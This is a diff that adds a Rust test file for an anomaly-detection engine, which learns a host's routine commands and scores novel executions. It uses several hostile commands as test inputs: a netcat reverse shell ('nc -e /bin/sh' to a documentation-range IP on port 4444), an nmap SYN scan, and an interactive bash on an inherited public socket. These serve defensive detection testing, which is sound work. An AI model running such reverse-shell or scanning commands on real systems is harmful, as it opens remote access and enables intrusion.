@@ -1,0 +1,463 @@
+//! The engine from outside: learning, scoring, holding, promoting, forgetting, and the store behind it.
+
+use std::collections::BTreeMap;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use anomaly_baseline::{
+    Access, Day, Engine, Level, Method, RowState, Score, Settings, Sighting, Standing, Store, StoreError,
+    StoredRow, Teach, Threshold, Verdict, WorkloadRecord,
+};
+use anomaly_vectorizer::canonical::Raw;
+use anomaly_vectorizer::context::{ExecutableFlag, InheritedSocket, SocketFamily};
+use anomaly_vectorizer::scrub::Scrubber;
+use anomaly_vectorizer::{Context, Execution, Hashed, Surroundings};
+
+const DAY: i64 = 86_400_000_000;
+
+fn execution(line: &str) -> Execution {
+    let (name, area) = (line.split(' ').next().unwrap_or_default(), line.replace(' ', "\0") + "\0");
+    let raw = Raw {
+        name: name.as_bytes(),
+        parent: b"cron",
+        grandparent: b"systemd",
+        uid: 0,
+        arguments: area.as_bytes(),
+        ..Raw::default()
+    };
+    raw.execution(&Scrubber::default())
+}
+
+/// What a host runs all day.
+const ROUTINE: &[&str] = &[
+    "logrotate /etc/logrotate.conf",
+    "run-parts --report /etc/cron.hourly",
+    "curl -s http://127.0.0.1/health",
+    "df -h /var",
+    "grep -c error /var/log/syslog",
+    "awk {print$1} /var/log/syslog",
+    "tar -czf /var/backups/etc.tar.gz /etc",
+    "find /tmp -mtime +7 -delete",
+];
+
+const NOVEL: &str = "nc -e /bin/sh 203.0.113.7 4444";
+
+struct Host {
+    engine: Engine,
+}
+
+impl Host {
+    fn new(settings: Settings) -> Self {
+        Self { engine: Engine::in_memory(settings, Arc::new(Hashed::default()), Method::default()) }
+    }
+
+    /// A host that has learned its routine over the days from 0 to `days`.
+    fn learned(days: Day) -> Self {
+        let host =
+            Self::new(Settings { learn_executions: 8, learn_for: Duration::ZERO, ..Settings::default() });
+        host.routine(0..=days);
+        assert!(host.engine.status()[0].learning.is_none(), "{:?}", host.engine.status());
+        host
+    }
+
+    fn routine(&self, days: std::ops::RangeInclusive<Day>) {
+        for day in days {
+            for line in ROUTINE.iter().cycle().take(10 * ROUTINE.len()) {
+                self.see(line, day);
+            }
+        }
+    }
+
+    fn see(&self, line: &str, day: Day) -> Verdict {
+        self.see_in(line, day, Context::default(), Teach::Policy)
+    }
+
+    fn see_in(&self, line: &str, day: Day, context: Context, teach: Teach) -> Verdict {
+        observe(&self.engine, line, day, context, teach)
+    }
+}
+
+fn observe(engine: &Engine, line: &str, day: Day, context: Context, teach: Teach) -> Verdict {
+    let execution = execution(line);
+    let time = i64::from(day) * DAY;
+    let sighting =
+        Sighting { workload: "host", execution: &execution, context, time, day, teach, pid: 0, ppid: 0 };
+    engine.observe(&sighting)
+}
+
+fn score(verdict: &Verdict) -> f64 {
+    verdict.score.expect("the workload has learned").value()
+}
+
+#[test]
+fn there_is_no_score_while_it_does_not_know() {
+    let host = Host::new(Settings::default());
+    let verdict = host.see(NOVEL, 0);
+    assert_eq!((verdict.score, verdict.distance, verdict.smoothed), (None, None, None));
+    assert_eq!(verdict.level, Level::Learning);
+    assert!(!verdict.novel && !verdict.first);
+    assert!(matches!(verdict.standing, Standing::Learning(progress) if progress.executions == 1));
+}
+
+#[test]
+fn what_was_learned_is_zero_and_what_was_not_is_explained() {
+    let host = Host::learned(3);
+    for line in ROUTINE {
+        let verdict = host.see(line, 4);
+        assert_eq!((verdict.score, verdict.distance), (Some(Score::ZERO), Some(Score::ZERO)), "{line}");
+        assert_eq!(verdict.level, Level::Normal);
+        assert!(verdict.seen > 30);
+    }
+    let novel = host.see(NOVEL, 4);
+    assert!(score(&novel) >= 0.85 && novel.novel && novel.first, "{novel:?}");
+    assert_eq!(novel.standing, Standing::Held);
+    let explanation = novel.explanation.expect("a novelty is explained");
+    assert!(explanation.reason.starts_with("new: name nc, flag -e"), "{explanation:?}");
+    assert!(explanation.nearest.is_some_and(|nearest| !nearest.is_empty()));
+}
+
+#[test]
+fn near_news_is_learned_at_once() {
+    let host = Host::learned(3);
+    let near = host.see("df -h /var/lib", 4);
+    assert!(near.distance.is_some_and(|distance| distance.value() < 0.45), "{near:?}");
+    assert_eq!(near.standing, Standing::Learned);
+    assert_eq!(host.see("df -h /var/lib", 4).score, Some(Score::ZERO));
+}
+
+#[test]
+fn far_news_is_held_and_alerts_again_until_it_recurred_on_separate_days() {
+    let host = Host::learned(3);
+    assert!(score(&host.see(NOVEL, 4)) >= 0.85);
+    for _ in 0..50 {
+        assert!(score(&host.see(NOVEL, 4)) > 0.75, "repeating dampens an alert that was given, and no more");
+    }
+    let days: Vec<_> = (5..20).map(|day| score(&host.see(NOVEL, day)) > 0.0).collect();
+    let learned_after = days.iter().position(|novel| !novel);
+    assert!(matches!(learned_after, Some(2..=6)), "{days:?}");
+}
+
+#[test]
+fn an_alert_group_is_first_once_a_day() {
+    let host = Host::learned(3);
+    let firsts = |day| (0..5).filter(|_| host.see(NOVEL, day).first).count();
+    assert_eq!((firsts(4), firsts(5)), (1, 1));
+}
+
+#[test]
+fn a_flood_raises_the_threshold_and_a_fixed_one_stays() {
+    let auto = Host::learned(3);
+    let fixed = Host::new(Settings {
+        learn_executions: 8,
+        learn_for: Duration::ZERO,
+        threshold: Threshold::Fixed("0.85".parse().expect("a score")),
+        ..Settings::default()
+    });
+    fixed.routine(0..=3);
+    for flood in 0..30 {
+        let line = format!("tool{flood} --mode{flood} /opt/vendor{flood}/data word{flood}");
+        auto.see(&line, 4);
+        assert!(fixed.see(&line, 4).novel);
+    }
+    let before = Host::learned(3).see(NOVEL, 4).threshold;
+    assert_eq!(before.to_string(), "0.8500");
+    assert!(auto.see(NOVEL, 4).threshold > before);
+    assert_eq!(fixed.see(NOVEL, 4).threshold.to_string(), "0.8500");
+    assert_eq!(auto.see("ls", 5).threshold.to_string(), "0.8500", "a new day is unspent");
+}
+
+#[test]
+fn nothing_is_learned_where_nothing_is_to_be() {
+    let host = Host::learned(3);
+    let before = host.engine.status()[0].clone();
+    for _ in 0..3 {
+        let verdict = host.see_in("df -h /var/lib", 4, Context::default(), Teach::Nothing);
+        assert!(score(&verdict) > 0.0);
+        assert_eq!(verdict.standing, Standing::Unlearned);
+        assert_eq!(host.see_in(NOVEL, 4, Context::default(), Teach::Seed).standing, Standing::Unlearned);
+    }
+    let after = host.engine.status()[0].clone();
+    assert_eq!((after.rows, after.held, after.executions), (before.rows, before.held, before.executions));
+}
+
+#[test]
+fn tools_of_attack_are_not_learned_by_running_during_the_warm_up() {
+    let host = Host::new(Settings { learn_executions: 8, learn_for: Duration::ZERO, ..Settings::default() });
+    host.see("nmap -sS 10.0.0.0/8", 0);
+    host.routine(0..=3);
+    assert_eq!(host.engine.status()[0].warnings, ["nmap"]);
+    assert!(score(&host.see("nmap -sS 10.0.0.0/8", 4)) >= 0.85);
+}
+
+#[test]
+fn the_order_of_executions_within_the_warm_up_changes_nothing() {
+    let baseline = |lines: &mut dyn Iterator<Item = &&str>| {
+        let host = Host::new(Settings { learn_executions: u64::MAX, ..Settings::default() });
+        lines.for_each(|line| drop(host.see(line, 0)));
+        host.engine.finish_learning(0);
+        let novel = host.see(NOVEL, 1);
+        (novel.score, novel.distance, host.see("df -i /var", 1).distance)
+    };
+    assert_eq!(baseline(&mut ROUTINE.iter()), baseline(&mut ROUTINE.iter().rev()));
+}
+
+fn socket(remote: &str) -> Context {
+    let remote = Some(remote.parse().expect("an address"));
+    let socket = InheritedSocket { fd: 0, family: SocketFamily::Inet, protocol: 6, local: None, remote };
+    Context::of(&Surroundings { tty: Some(false), sockets: Some(vec![socket]), ..Surroundings::default() })
+}
+
+#[test]
+fn a_known_command_on_a_socket_is_no_repeat() {
+    let quiet = Surroundings { tty: Some(false), sockets: Some(vec![]), ..Surroundings::default() };
+    let quiet = Context::of(&quiet);
+    let host = Host::new(Settings { learn_executions: 8, learn_for: Duration::ZERO, ..Settings::default() });
+    for day in 0..4 {
+        for line in ROUTINE.iter().chain(&["bash -i"]).cycle().take(90) {
+            host.see_in(line, day, quiet, Teach::Policy);
+        }
+    }
+    assert_eq!(host.see_in("bash -i", 4, quiet, Teach::Policy).score, Some(Score::ZERO));
+    let unknown = host.see_in("bash -i", 4, Context::default(), Teach::Policy);
+    assert_eq!(unknown.score, Some(Score::ZERO), "unknown matches anything");
+    for _ in 0..3 {
+        let reverse = host.see_in("bash -i", 4, socket("203.0.113.9:4444"), Teach::Policy);
+        assert!(score(&reverse) >= 0.8, "{reverse:?}");
+        assert_eq!(reverse.standing, Standing::Held);
+        let reason = reverse.explanation.expect("explained").reason;
+        assert!(reason.contains("a public connection on 0-2"), "{reason}");
+    }
+    assert_eq!(host.see_in("bash -i", 4, quiet, Teach::Policy).score, Some(Score::ZERO));
+    let memfd = Surroundings { exe_flags: Some(vec![ExecutableFlag::Memfd]), ..Surroundings::default() };
+    let verdict = host.see_in("bash -i", 4, Context::of(&memfd), Teach::Policy);
+    assert_eq!(verdict.score, Some(Score::ZERO), "this feed never told before where executables come from");
+}
+
+#[test]
+fn what_is_not_seen_for_long_is_forgotten_and_remembered_when_it_returns() {
+    let memory = Memory::default();
+    let settings = Settings { learn_executions: 8, learn_for: Duration::ZERO, ..Settings::default() };
+    let engine = memory.engine(settings);
+    for day in 0..=3 {
+        ROUTINE
+            .iter()
+            .cycle()
+            .take(80)
+            .for_each(|line| drop(observe(&engine, line, day, Context::default(), Teach::Policy)));
+    }
+    // Eight days on, only one of them still runs.
+    for day in 4..=12 {
+        observe(&engine, ROUTINE[0], day, Context::default(), Teach::Policy);
+    }
+    wait_until(|| engine.status()[0].rows == 1);
+    let back = observe(&engine, ROUTINE[7], 12, Context::default(), Teach::Policy);
+    assert!(score(&back) > 0.5, "{back:?}");
+    engine.close(Duration::from_secs(5)).expect("it is closed");
+    let rows = memory.rows();
+    let forgotten = rows.iter().filter(|row| row.state == RowState::Forgotten).count();
+    assert_eq!(forgotten, ROUTINE.len() - 2, "their keys and days stay");
+}
+
+/// A store in memory that can be told to fail.
+#[derive(Clone, Default)]
+struct Memory {
+    tables: Arc<Mutex<BTreeMap<String, Table>>>,
+    failing: Arc<std::sync::atomic::AtomicBool>,
+    reader: Arc<std::sync::atomic::AtomicBool>,
+}
+
+type Table = (WorkloadRecord, BTreeMap<u128, StoredRow>);
+
+impl Memory {
+    fn engine(&self, settings: Settings) -> Engine {
+        let engine = Engine::with_store(
+            settings,
+            Arc::new(Hashed::default()),
+            Method::default(),
+            Box::new(self.clone()),
+        )
+        .expect("a thread");
+        engine.wait_loaded(Duration::from_secs(5)).expect("it loads");
+        engine
+    }
+
+    fn rows(&self) -> Vec<StoredRow> {
+        self.tables.lock().unwrap().values().flat_map(|(_, rows)| rows.values().cloned()).collect()
+    }
+
+    fn fails(&self) -> Result<(), StoreError> {
+        if self.failing.load(std::sync::atomic::Ordering::SeqCst) {
+            let (operation, workload, cause) = ("saving", "host".into(), "no space left".into());
+            return Err(StoreError::Failed { operation, workload, cause });
+        }
+        Ok(())
+    }
+}
+
+impl Store for Memory {
+    fn access(&mut self) -> Access {
+        if self.reader.load(std::sync::atomic::Ordering::SeqCst) { Access::Reader } else { Access::Writer }
+    }
+
+    fn load(
+        &mut self,
+        each: &mut dyn FnMut(String, WorkloadRecord, Vec<StoredRow>),
+    ) -> Result<Vec<String>, StoreError> {
+        for (name, (record, rows)) in self.tables.lock().unwrap().clone() {
+            each(name, record, rows.into_values().collect());
+        }
+        Ok(Vec::new())
+    }
+
+    fn save(
+        &mut self,
+        workload: &str,
+        record: &WorkloadRecord,
+        rows: &[StoredRow],
+    ) -> Result<(), StoreError> {
+        self.fails()?;
+        let mut tables = self.tables.lock().unwrap();
+        let table = tables.entry(workload.into()).or_default();
+        table.0 = record.clone();
+        table.1.extend(rows.iter().map(|row| (row.key, row.clone())));
+        Ok(())
+    }
+
+    fn delete(&mut self, workload: &str, keys: &[(String, u128)]) -> Result<(), StoreError> {
+        self.fails()?;
+        if let Some(table) = self.tables.lock().unwrap().get_mut(workload) {
+            keys.iter().for_each(|(_, key)| drop(table.1.remove(key)));
+        }
+        Ok(())
+    }
+
+    fn maintain(&mut self) -> Result<(), StoreError> {
+        Ok(())
+    }
+}
+
+fn wait_until(condition: impl Fn() -> bool) {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while !condition() {
+        assert!(Instant::now() < deadline, "it never came true");
+        std::thread::sleep(Duration::from_millis(5));
+    }
+}
+
+fn quick() -> Settings {
+    Settings { learn_executions: 8, learn_for: Duration::ZERO, ..Settings::default() }
+}
+
+#[test]
+fn a_restart_knows_what_was_known() {
+    let memory = Memory::default();
+    let engine = memory.engine(quick());
+    ROUTINE
+        .iter()
+        .cycle()
+        .take(80)
+        .for_each(|line| drop(observe(&engine, line, 3, Context::default(), Teach::Policy)));
+    let held = observe(&engine, NOVEL, 3, Context::default(), Teach::Policy);
+    assert!(held.novel && held.first);
+    engine.close(Duration::from_secs(5)).expect("it is closed");
+
+    let engine = memory.engine(quick());
+    for line in ROUTINE {
+        let verdict = observe(&engine, line, 3, Context::default(), Teach::Policy);
+        assert_eq!((verdict.score, verdict.seen), (Some(Score::ZERO), 11), "{line}");
+    }
+    let again = observe(&engine, NOVEL, 3, Context::default(), Teach::Policy);
+    assert_eq!(again.distance, held.distance);
+    assert!(again.novel && !again.first, "its group has alerted today: {again:?}");
+    assert_eq!(again.seen, 2);
+}
+
+#[test]
+fn new_rows_are_with_the_store_within_a_second() {
+    let memory = Memory::default();
+    let engine = memory.engine(quick());
+    observe(&engine, "df -h", 0, Context::default(), Teach::Policy);
+    let seen = Instant::now();
+    wait_until(|| memory.rows().len() == 1);
+    assert!(seen.elapsed() < Duration::from_secs(1));
+    assert_eq!(engine.unsaved_rows(), 0);
+}
+
+#[test]
+fn a_store_that_fails_loses_nothing_and_says_so_once() {
+    let memory = Memory::default();
+    let engine = memory.engine(quick());
+    memory.failing.store(true, std::sync::atomic::Ordering::SeqCst);
+    ROUTINE.iter().for_each(|line| drop(observe(&engine, line, 0, Context::default(), Teach::Policy)));
+    wait_until(|| engine.counters().failed_saves >= 2);
+    let notices = engine.notices();
+    assert_eq!(notices.len(), 1, "{notices:?}");
+    assert!(notices[0].contains("no space left") && notices[0].contains("memory"), "{notices:?}");
+    assert_eq!(engine.unsaved_rows(), ROUTINE.len());
+    memory.failing.store(false, std::sync::atomic::Ordering::SeqCst);
+    engine.flush(Duration::from_secs(5)).expect("the disk is back");
+    assert_eq!(memory.rows().len(), ROUTINE.len());
+}
+
+#[test]
+fn a_second_process_scores_and_learns_nothing_until_the_first_is_gone() {
+    let memory = Memory::default();
+    let engine = memory.engine(quick());
+    ROUTINE
+        .iter()
+        .cycle()
+        .take(80)
+        .for_each(|line| drop(observe(&engine, line, 0, Context::default(), Teach::Policy)));
+    engine.close(Duration::from_secs(5)).expect("it is closed");
+    let rows = memory.rows();
+
+    memory.reader.store(true, std::sync::atomic::Ordering::SeqCst);
+    let reader = memory.engine(quick());
+    assert_eq!(reader.wait_loaded(Duration::from_secs(1)).expect("loaded").access, Access::Reader);
+    let novel = observe(&reader, NOVEL, 1, Context::default(), Teach::Policy);
+    assert!(novel.novel && novel.standing == Standing::Unlearned, "{novel:?}");
+    reader.flush(Duration::from_secs(5)).expect("nothing to do");
+    assert_eq!(memory.rows(), rows);
+
+    memory.reader.store(false, std::sync::atomic::Ordering::SeqCst);
+    wait_until(|| observe(&reader, NOVEL, 1, Context::default(), Teach::Policy).standing == Standing::Held);
+    assert!(reader.notices().iter().any(|notice| notice.contains("learns from now on")));
+}
+
+#[test]
+fn more_workloads_than_allowed_are_refused_and_counted() {
+    let host = Host::new(Settings { max_workloads: 2, ..Settings::default() });
+    let execution = execution("df");
+    let see = |workload: &str| {
+        let (context, teach) = (Context::default(), Teach::Policy);
+        host.engine.observe(&Sighting {
+            workload,
+            execution: &execution,
+            context,
+            time: 0,
+            day: 0,
+            teach,
+            pid: 0,
+            ppid: 0,
+        })
+    };
+    see("a");
+    see("b");
+    assert_eq!(see("c").standing, Standing::Refused);
+    assert_eq!(host.engine.counters().refused, 1);
+    assert!(matches!(see("a").standing, Standing::Learning(_)));
+}
+
+#[test]
+fn a_flood_of_novelty_is_bounded_and_counted() {
+    let settings = Settings { max_rows: 100, max_held: 10, ..quick() };
+    let host = Host::new(settings);
+    host.routine(0..=0);
+    for flood in 0..200 {
+        let line = format!("tool{flood} --mode{flood} /opt/vendor{flood}/data word{flood}");
+        assert!(score(&host.see(&line, 1)) > 0.8);
+    }
+    let status = &host.engine.status()[0];
+    assert_eq!(status.held, 10);
+    assert_eq!(host.engine.counters().without_room, 190);
+}
